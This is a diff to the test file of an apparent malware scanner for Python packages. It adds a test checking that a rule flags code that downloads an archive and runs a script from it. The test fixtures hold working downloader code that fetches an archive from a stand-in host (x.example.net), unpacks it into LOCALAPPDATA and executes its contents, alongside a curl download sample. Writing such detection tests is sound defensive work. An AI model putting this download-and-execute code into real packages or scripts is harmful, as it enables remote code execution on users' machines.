@@ -118,6 +118,13 @@ def test_a_miner_started_with_a_pool_is_cryptojacking(engine: Engine) -> None:
 
 BLOB = "QUJD" * 30
 ZLIB_HEX = "789c" + "0f" * 120
+STAGE = (
+    "import os, zipfile, requests\n"
+    "home = os.getenv('LOCALAPPDATA')\n"
+    "r = requests.get('https://x.example.net/stage')\n"
+    "open(home + '/s.zip', 'wb').write(r.content)\n"
+    "zipfile.ZipFile(home + '/s.zip').extractall(home + '/s')\n"
+)
 YARA_CASES: list[tuple[Rule, str, str]] = [
     (
         decode_and_execute_rule,
@@ -190,6 +197,21 @@ YARA_CASES: list[tuple[Rule, str, str]] = [
         "import os\n\ndef fetch(url):\n    os.system(f'curl -s -L \"{url}\" -o data.json')\n",
     ),
 ]
+
+
+def test_a_python_script_run_from_a_downloaded_archive(engine: Engine) -> None:
+    label = "downloads an archive, unpacks it and runs a Python script from it"
+    script = STAGE + "os.system(f'py {home}/s/pkg/__init__.py')\n"
+    evidence = run_rule(
+        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/m.py": script})
+    )
+    assert label in evidence[0]["signatures"]
+    # a tool unpacked and its binary run (what other signatures make of it is theirs)
+    tool = STAGE + "os.system(f'{home}/s/tool --version')\n"
+    evidence = run_rule(
+        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/m.py": tool})
+    )
+    assert label not in evidence[0]["signatures"]
 
 
 @pytest.mark.parametrize(("rule", "bad", "good"), YARA_CASES)
